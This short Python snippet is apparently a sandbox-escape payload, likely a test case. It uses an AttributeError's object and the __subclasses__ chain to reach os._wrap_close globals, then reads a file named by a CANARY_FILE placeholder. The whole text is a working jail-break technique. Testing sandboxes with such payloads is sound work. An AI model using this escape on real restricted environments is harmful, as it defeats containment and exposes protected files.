# takes an object from an AttributeError
class A: pass
try: A.f.g
except AttributeError as e: 
    g = [c for c in e.obj.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__
    print(g['read'](g['open'](CANARY_FILE, 0), 99).decode())
